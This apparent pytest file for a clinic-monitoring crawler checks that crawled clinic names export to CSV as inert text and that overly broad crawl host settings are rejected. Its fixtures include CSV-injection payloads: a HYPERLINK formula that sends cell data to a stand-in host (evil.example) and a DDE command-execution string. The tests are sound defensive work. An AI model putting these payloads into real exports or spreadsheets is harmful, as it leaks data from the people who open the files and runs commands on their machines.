"""Hostile values on the way out: what a crawl brought in (a clinic's name from a listing) cannot
become a live formula in the analyst's spreadsheet, and a configuration that would open the URL
gate to everything, or to nothing while seeming to, is refused with one line."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from db.records import ClinicRecord, PageRecord
from db.store import Store
from monitor.cli import main
from monitor.flagging import run_flagger
from tests.integration.test_flag_lifecycle import OFFER


def test_flags_csv_keeps_formulas_from_crawled_names_as_text(db_url, monkeypatch, capsys):
    """A clinic named by a listing as a spreadsheet formula comes out of the CSV as text."""
    monkeypatch.delenv("EXOWATCH_CONFIG", raising=False)
    monkeypatch.setenv("EXOWATCH_DATABASE_URL", db_url)
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ]
    store = Store.open(db_url)
    store.init()
    try:
        for number, name in enumerate(formulas):
            key = f"clinic{number}.example"
            store.upsert_clinics([ClinicRecord(key, name=name, domain=key)], source="t", seen_at=None)
            now = datetime.now(UTC)
            url = f"http://{key}/treatments/exosome-iv"
            page = PageRecord(url=url, title="Exosome IV", text=OFFER, content_hash="h", fetched_at=now, checked_at=now)
            store.upsert_pages([page], clinic_keys={url: key}, html={url: (OFFER.encode(), "utf-8")}, source="t")
        run_flagger(store)
    finally:
        store.close()
    assert main(["flags", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    names = {row["name"] for row in rows}
    assert names == {"'" + name for name in formulas}
    assert all(not row["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
    assert {row["clinic"] for row in rows} == {f"clinic{n}.example" for n in range(len(formulas))}  # untouched


@pytest.mark.parametrize("entry", ["*", "*:443", "0.0.0.0/0", "::/0", "10.0.0.0/8"])
def test_allow_hosts_that_would_open_the_gate_wide_exit_2_with_one_line(entry, tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("EXOWATCH_CONFIG", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path}/x.db"\n\n[crawl]\nallow_hosts = ["{entry}"]\n', encoding="utf-8"
    )
    assert main(["--config", str(config), "crawl", "clinic_sites"]) == 2
    error = capsys.readouterr().err.strip()
    assert "crawl.allow_hosts" in error and "\n" not in error, error
